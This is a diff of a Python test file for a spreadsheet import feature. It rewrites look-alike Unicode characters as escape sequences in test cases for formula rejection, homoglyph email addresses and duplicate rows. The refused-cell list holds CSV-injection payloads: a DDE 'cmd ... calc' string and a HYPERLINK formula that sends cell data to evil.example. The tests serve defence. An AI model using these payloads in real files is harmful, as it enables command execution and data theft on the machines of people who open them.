@@ -128,7 +128,7 @@ def test_a_field_without_end_is_refused():
     "cell",
     [
         "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1",
-        "＝1+1", "＋1+1", "－1", "＠SUM(A1)", ";=1+1", '"=1+1', "|cmd", "%0A=1+1", "cmd|' /C calc'!A0", "'=1+1",
+        "\uff1d1+1", "\uff0b1+1", "\uff0d1", "\uff20SUM(A1)", ";=1+1", '"=1+1', "|cmd", "%0A=1+1", "cmd|' /C calc'!A0", "'=1+1",
         '=HYPERLINK("https://evil.example/?"&A1)', "\u200b=1+1", "\u202e=1+1", "=cmd|' /C calc'!A0",
     ],
 )  # fmt: skip
@@ -161,7 +161,7 @@ def test_what_is_no_formula_stays_as_it_is(text):
         ("a" * 2_001, "", "import.long"),
         ("Z" + "\u0301" * 60, "", "import.name"),
         ("Ana", "no address", "import.email"),
-        ("Ana", "аna@example.org", "import.email"),
+        ("Ana", "\u0430na@example.org", "import.email"),
         ("Ana", "a@b@c", "import.email"),
     ],
 )
@@ -172,7 +172,9 @@ def test_rows_with_what_no_name_or_address_has(name, email, rule):
 
 
 def test_one_address_twice_is_one_person_and_one_name_twice_may_be_two():
-    found = read_sheet("name,email\nAna Ruiz,ana@example.org\nAna R.,ANA@example.org\nANA  ruiz,\nАnа Ruiz,\n".encode())
+    found = read_sheet(
+        "name,email\nAna Ruiz,ana@example.org\nAna R.,ANA@example.org\nANA  ruiz,\n\u0410n\u0430 Ruiz,\n".encode()
+    )
 
     assert [line.number for line in found.lines] == [2, 4, 5]
     assert found.faults == (Fault(3, "import.twice", "2"),)
